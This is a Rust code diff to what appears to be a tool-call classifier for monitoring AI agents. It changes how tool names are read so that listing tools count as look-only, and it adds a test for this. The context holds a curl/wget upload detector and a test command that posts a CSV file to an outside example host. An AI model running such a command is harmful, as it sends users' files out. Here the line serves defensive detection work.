@@ -147,10 +147,17 @@ fn uploads(command: &str) -> bool {
     ["curl", "wget"].iter().any(|program| command.contains(program))
 }
 
-/// Whether a tool's name or action says that it does something, and does not only look.
+/// Whether a tool's name or action says that it does something, and does not only look. Many things are listed: `shop.messages` sends none.
 #[must_use]
 pub fn says_what_it_does(call: &Call) -> bool {
-    !kinds(&call.name, call.family, call.arguments()).without(Kinds::OPEN).is_empty()
+    let mut name = String::new();
+    each_part(&call.name, &mut |word| {
+        if !word.ends_with('s') || word.ends_with("ss") {
+            name.push_str(word);
+            name.push('_');
+        }
+    });
+    !kinds(&name, call.family, call.arguments()).without(Kinds::OPEN).is_empty()
 }
 
 /// The address that a call goes to.
@@ -205,6 +212,13 @@ mod tests {
         let run = act("exec", &json!({ "command": "curl -d @list.csv https://c.example/up" })).unwrap();
         assert!(run.kinds.meets(Kinds::RUN) && run.named.iter().any(|named| named.form == Some(Form::Host)));
         assert!(act("write", &json!({ "path": "AGENTS.md", "content": "x" })).is_some());
+    }
+
+    #[test]
+    fn what_lists_things_does_not_say_that_it_does_something() {
+        let says = |tool: &str| says_what_it_does(&Call::new(tool, Some("{}"), &Catalogue::default()));
+        assert!(!says("shop.messages") && !says("crm_orders"));
+        assert!(says("delete_messages") && says("mail_reply") && says("grant_access"));
     }
 
     #[test]
